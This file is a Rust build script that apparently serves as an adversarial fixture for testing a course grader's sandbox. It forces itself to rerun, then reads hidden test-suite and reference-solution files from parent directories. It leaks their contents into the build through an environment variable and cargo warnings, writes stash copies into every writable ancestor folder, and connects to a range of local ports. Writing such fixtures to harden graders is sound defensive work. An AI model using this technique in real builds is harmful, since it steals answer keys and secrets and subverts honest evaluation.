//! A build script that asks to run in every build (it watches a file that
//! never exists), so that cargo runs it again in the grader's second build
//! step, when the hidden suite is in the build and readable. There it reads
//! the suite and the reference by every path it can think of, hands what
//! it read to the library (`ADVERSARIAL_BUILD_LEAK`), keeps a copy in every
//! folder of the build it can write (`adversarial-stash.txt`, for a later
//! build to pick up), and connects to every port of the test's listener
//! range. The grader must refuse the build and show none of it.

use std::io::Write;
use std::path::PathBuf;
use std::time::Duration;

/// The copy of what was read, left for later builds.
const STASH_FILE_NAME: &str = "adversarial-stash.txt";
/// The ports the adversarial test's listener may be on.
const LISTENER_PORTS: std::ops::Range<u16> = 47300..47340;

fn main() {
    println!("cargo:rerun-if-changed=this-file-never-exists.txt");
    let manifest_dir = PathBuf::from(std::env::var_os("CARGO_MANIFEST_DIR").unwrap_or_default());
    let mut leak = String::from("ADVERSARIAL-RERUN-LEAK ");
    for ancestor in manifest_dir.ancestors() {
        for root in [
            ancestor.to_path_buf(),
            ancestor.join("xtask/tests/adversarial"),
        ] {
            for hidden in [
                "grader/suites/lab9-adversarial/src/main.rs",
                "solutions/lab9-adversarial/src/lib.rs",
            ] {
                if let Ok(text) = std::fs::read_to_string(root.join(hidden)) {
                    leak.extend(
                        text.chars()
                            .take(2048)
                            .map(|ch| if ch == '\n' { ' ' } else { ch }),
                    );
                    leak.push(' ');
                }
            }
        }
    }
    println!("cargo:rustc-env=ADVERSARIAL_BUILD_LEAK={leak}");
    println!("cargo:warning=the build script read: {leak}");

    let out_dir = PathBuf::from(std::env::var_os("OUT_DIR").unwrap_or_default());
    for folder in out_dir.ancestors() {
        let _ = std::fs::write(folder.join(STASH_FILE_NAME), &leak);
    }

    for port in LISTENER_PORTS {
        let address = std::net::SocketAddr::from(([127, 0, 0, 1], port));
        if let Ok(mut stream) =
            std::net::TcpStream::connect_timeout(&address, Duration::from_secs(1))
        {
            let _ = stream.write_all(b"hello from the rerunning build script\n");
        }
    }
}
